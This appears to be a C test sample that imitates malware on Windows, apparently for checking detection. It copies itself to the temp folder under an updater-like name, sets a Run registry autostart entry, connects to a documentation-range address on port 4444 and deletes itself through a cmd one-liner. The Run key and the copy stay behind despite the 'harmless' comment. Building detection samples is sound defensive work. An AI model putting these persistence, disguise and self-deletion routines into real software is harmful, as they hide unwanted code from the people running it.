/* Harmless, but shaped like malware: copies itself, starts with Windows, calls an address of a documentation range, removes itself.
   Run it in a disposable machine only. */
#include <winsock2.h>
#include <windows.h>
#include <stdio.h>
#include <string.h>
static void persist(const char *path) {
  HKEY key;
  if (RegCreateKeyExA(HKEY_CURRENT_USER, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, 0, 0, KEY_SET_VALUE, 0, &key, 0) == ERROR_SUCCESS) {
    RegSetValueExA(key, "UpdateHelper", 0, REG_SZ, (const BYTE *)path, (DWORD)strlen(path) + 1);
    RegCloseKey(key);
  }
}
static void start(char *line, DWORD wait) {
  STARTUPINFOA info = {sizeof info};
  PROCESS_INFORMATION process;
  if (!CreateProcessA(0, line, 0, 0, 0, CREATE_NO_WINDOW, 0, 0, &info, &process)) return;
  if (wait) WaitForSingleObject(process.hProcess, wait);
  CloseHandle(process.hProcess);
  CloseHandle(process.hThread);
}
static void call(void) {
  WSADATA data;
  struct sockaddr_in to = {0};
  WSAStartup(MAKEWORD(2, 2), &data);
  gethostbyname("cdn.update-service.example");
  SOCKET line = socket(AF_INET, SOCK_STREAM, 0);
  to.sin_family = AF_INET;
  to.sin_port = htons(4444);
  to.sin_addr.s_addr = inet_addr("203.0.113.77");
  if (connect(line, (struct sockaddr *)&to, sizeof to) == 0) send(line, "hello\n", 6, 0);
  closesocket(line);
}
int main(int count, char **words) {
  char self[MAX_PATH], copy[MAX_PATH], line[2 * MAX_PATH + 64];
  if (count > 1 && strcmp(words[1], "/stay") == 0) return 0;
  GetModuleFileNameA(0, self, sizeof self);
  GetTempPathA(sizeof copy - 20, copy);
  strcat(copy, "update-helper.exe");
  CopyFileA(self, copy, FALSE);
  persist(copy);
  snprintf(line, sizeof line, "\"%s\" /stay", copy);
  start(line, 20000);
  call();
  snprintf(line, sizeof line, "cmd.exe /c ping -n 1 127.0.0.1 >nul & del \"%s\"", self);
  start(line, 0);
  return 0;
}
